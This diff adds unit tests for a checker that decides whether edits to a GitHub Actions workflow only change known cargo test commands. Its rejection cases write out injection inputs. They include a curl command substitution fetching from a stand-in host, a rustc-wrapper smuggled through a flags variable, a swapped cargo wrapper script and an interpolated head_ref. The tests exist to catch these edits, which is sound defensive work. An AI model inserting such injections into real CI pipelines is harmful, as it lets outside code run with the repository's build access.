@@ -178,6 +178,39 @@ describe('a new workflow step running a cargo command the workflow runs with ano
   });
 });
 
+describe('a new workflow step running a command the job runs through its env, with another list of features (trusted-routine, calib56)', () => {
+  // Modeled on the real step of a search tool's "cargo: add new build-time `unstable-index` feature":
+  // the job runs `cargo` or `cross` and the target's flags through its env, as its PCRE2 step does.
+  const wf = (steps: string[], jobEnv = ['      CARGO: cargo', '      TARGET_FLAGS:']) =>
+    [
+      'name: ci', 'on:', '  pull_request:', '  push:', '    branches: [master]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    env:', ...jobEnv, '    steps:', '      - uses: actions/checkout@v4',
+      '      - name: Use Cross',
+      '        if: matrix.target != \'\'',
+      '        run: |',
+      '          cargo install cross',
+      '          echo "CARGO=cross" >> $GITHUB_ENV',
+      '      - run: ${{ env.CARGO }} build --verbose --workspace ${{ env.TARGET_FLAGS }}',
+      '      - name: Run tests with PCRE2',
+      '        run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }}',
+      ...steps,
+      '',
+    ].join('\n');
+  it('reads the command as the known one when its env expressions read what they read for it', () => {
+    expect(editsOnlyCommands(wf([]), wf(['      - name: Run tests with indexing enabled', '        run: ${{ env.CARGO }} test --verbose --workspace --features unstable-index ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(true);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{env.CARGO}} test --verbose --workspace --features=pcre2,unstable-index ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(true);
+  });
+  it('does not when the step or the job sets the variable otherwise, the command is another, or it expands anything else', () => {
+    const indexing = '      - run: ${{ env.CARGO }} test --verbose --workspace --features unstable-index ${{ env.TARGET_FLAGS }}';
+    expect(editsOnlyCommands(wf([]), wf([indexing, '        env:', '          CARGO: ./tools/cargo-wrapper.sh']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf([indexing], ['      CARGO: ./tools/cargo-wrapper.sh', '      TARGET_FLAGS:']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf([indexing], ['      CARGO: cargo', '      TARGET_FLAGS: --config build.rustc-wrapper=./wrap']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.CARGO }} publish --verbose --workspace ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }} $(curl -s https://example.org/f)']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.CARGO }} test --verbose --workspace --features pcre2 ${{ github.head_ref }}']), 'workflow')).toBe(false);
+    expect(editsOnlyCommands(wf([]), wf(['      - run: ${{ env.RUNNER }} test --verbose --workspace --features pcre2 ${{ env.TARGET_FLAGS }}']), 'workflow')).toBe(false);
+  });
+});
+
 describe('a permissions block tightened beside a command edit (trusted-routine)', () => {
   const wf = (top: string[], job: string[], cmd = 'npm test') =>
     ['name: ci', 'on: [push, pull_request]', ...top, 'jobs:', '  test:', '    runs-on: ubuntu-latest', ...job, '    steps:', '      - uses: actions/checkout@v4', `      - run: ${cmd}`, ''].join('\n');
